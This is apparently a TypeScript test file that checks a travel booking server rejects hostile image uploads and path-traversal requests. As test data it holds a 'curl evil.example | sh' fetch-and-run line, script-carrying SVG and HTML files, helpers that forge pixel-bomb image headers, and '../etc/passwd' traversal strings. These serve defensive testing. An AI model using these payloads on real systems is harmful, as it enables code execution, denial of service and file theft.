/**
 * Hostile uploads through the destination form, each refused with nothing stored (no image, no
 * event): a script renamed .png, an SVG carrying a script, pixel bombs (small real pictures whose
 * header claims tens of thousands of pixels a side) in each accepted format, a file over
 * MAX_UPLOAD_MB, and a folder query that climbs out with ../.
 */
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "../../server/db/database.ts";
import { encodePng } from "../../server/demo/png.ts";
import { MAX_IMAGE_PIXELS } from "../../server/uploads/images.ts";
import { messages } from "../../src/api/messages.ts";
import { createStaff, sessionFor, startServer, type TestServer, testEnv } from "../api/support.ts";
import { openTestDatabase } from "../setup/database.ts";
import { eventCount, leaksInternals, uploadCount } from "./support.ts";

let db: Database;
let server: TestServer;
let token: string;

beforeAll(async () => {
  db = await openTestDatabase();
  server = await startServer(db, { env: testEnv({ MAX_UPLOAD_MB: "1" }) });
  const id = await createStaff(db, { email: "marketing@example.com", password: null, role: "marketing" });
  token = await sessionFor(server, db, id);
});

afterAll(async () => {
  await server?.close();
  await db?.close();
});

const pngChunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};

/** A well-formed PNG header claiming width x height; the pixel data is a few bytes of zeros. */
const pngClaiming = (width: number, height: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8);
  header.writeUInt8(2, 9);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(Buffer.alloc(1024))),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
};

/** A small real picture in `format`, whose header is then made to claim more pixels. */
const realPicture = (format: "jpeg" | "gif" | "webp"): Promise<Buffer> =>
  sharp(Buffer.alloc(16 * 16 * 3, 90), { raw: { width: 16, height: 16, channels: 3 } })
    .toFormat(format)
    .toBuffer();

/** A real JPEG whose start-of-frame claims width x height. */
const jpegClaiming = async (width: number, height: number): Promise<Buffer> => {
  const bytes = await realPicture("jpeg");
  const sof = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(height, sof + 5);
  bytes.writeUInt16BE(width, sof + 7);
  return bytes;
};

/** A real GIF whose screen and first frame claim width x height. */
const gifClaiming = async (width: number, height: number): Promise<Buffer> => {
  const bytes = await realPicture("gif");
  bytes.writeUInt16LE(width, 6);
  bytes.writeUInt16LE(height, 8);
  // The image descriptor (0x2c, left, top, width, height) after the header and colour table.
  const descriptor = bytes.indexOf(0x2c, 13);
  bytes.writeUInt16LE(width, descriptor + 5);
  bytes.writeUInt16LE(height, descriptor + 7);
  return bytes;
};

/** A real lossy WebP (a VP8 chunk) whose frame header claims width x height (14 bits each). */
const webpClaiming = async (width: number, height: number): Promise<Buffer> => {
  const bytes = await realPicture("webp");
  if (bytes.toString("ascii", 12, 16) !== "VP8 ") throw new Error("a lossy WebP expected");
  bytes.writeUInt16LE(width, 26);
  bytes.writeUInt16LE(height, 28);
  return bytes;
};

const bombs = {
  jpeg: await jpegClaiming(65_000, 65_000),
  gif: await gifClaiming(65_535, 65_535),
  webp: await webpClaiming(16_383, 16_383),
};

const fields = {
  name: "Cuenca colonial",
  avalability: "Todo el año",
  price: "210",
  type: "national",
  region: "Sierra",
  "servicesIncluded[0]": "Traslados",
  "departureFrom[0]": "Quito",
  feeding: "",
};

const send = async (bytes: Buffer, type: string, name: string, query = "?images=tiptops&&file=files") => {
  const form = new FormData();
  for (const [field, value] of Object.entries(fields)) form.append(field, value);
  form.append("image", new Blob([new Uint8Array(bytes)], { type }), name);
  const response = await fetch(`${server.base}/api/itineraries/createItinerary${query}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  const text = await response.text();
  return { status: response.status, text };
};

describe("hostile uploads", () => {
  it("has bombs above the pixel limit and a real image below it", () => {
    expect(50_000 * 50_000).toBeGreaterThan(MAX_IMAGE_PIXELS);
  });

  it.each([
    ["a shell script renamed .png", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"), "image/png", "x.png", 415, messages.unsupportedFile],
    [
      "an SVG with a script",
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
      "image/svg+xml",
      "logo.svg",
      415,
      messages.unsupportedFile,
    ],
    ["an HTML page named .jpg", Buffer.from("<!doctype html><script>alert(1)</script>"), "image/jpeg", "a.jpg", 415, messages.unsupportedFile],
    ["a PNG claiming 50,000 x 50,000 pixels", pngClaiming(50_000, 50_000), "image/png", "bomb.png", 413, messages.fileTooLarge],
    ["a JPEG claiming 65,000 x 65,000 pixels", bombs.jpeg, "image/jpeg", "bomb.jpg", 413, messages.fileTooLarge],
    ["a GIF claiming 65,535 x 65,535 pixels", bombs.gif, "image/gif", "bomb.gif", 413, messages.fileTooLarge],
    ["a WebP claiming 16,383 x 16,383 pixels", bombs.webp, "image/webp", "bomb.webp", 413, messages.fileTooLarge],
    [
      "a PNG over MAX_UPLOAD_MB",
      Buffer.concat([encodePng(4, 4, () => [1, 2, 3]), Buffer.alloc(1_100_000)]),
      "image/png",
      "big.png",
      413,
      messages.fileTooLarge,
    ],
  ] as const)("refuses %s, storing nothing", async (_name, bytes, type, fileName, status, message) => {
    const before = { events: await eventCount(db), uploads: await uploadCount(db) };
    const answer = await send(bytes, type, fileName);
    expect(answer.status, answer.text).toBe(status);
    expect(JSON.parse(answer.text)).toEqual({ data: message });
    expect({ events: await eventCount(db), uploads: await uploadCount(db) }).toEqual(before);
  });

  it.each([
    "?images=../../etc&&file=files",
    "?images=..%2F..%2Fetc&&file=files",
    "?images=tiptops/../../etc&&file=files",
    "?images=%2Fetc%2Fpasswd",
  ])("refuses the folder query %s, storing nothing", async (query) => {
    const before = { events: await eventCount(db), uploads: await uploadCount(db) };
    const answer = await send(encodePng(4, 4, () => [9, 9, 9]), "image/png", "ok.png", query);
    expect(answer.status, answer.text).toBe(400);
    expect(leaksInternals(answer.text)).toBe(false);
    expect({ events: await eventCount(db), uploads: await uploadCount(db) }).toEqual(before);
  });

  it("still stores a real image within the limits", async () => {
    const answer = await send(encodePng(64, 48, (x, y) => [x, y, 80]), "image/png", "ok.png");
    expect(answer.status, answer.text).toBe(200);
    expect(await uploadCount(db)).toBe(1);
  });

  it("answers paths with ../ under /api/uploads with 404, never a file", async () => {
    for (const path of ["/api/uploads/../../etc/passwd", "/api/uploads/%2E%2E/%2E%2E/etc/passwd", "/api/uploads/tiptops/..%2F..%2Fpackage.json"]) {
      const response = await fetch(`${server.base}${path}`);
      const text = await response.text();
      expect(response.status, path).toBe(404);
      expect(text).not.toContain("root:");
      expect(text).not.toContain("travel-back-office");
    }
  });
});
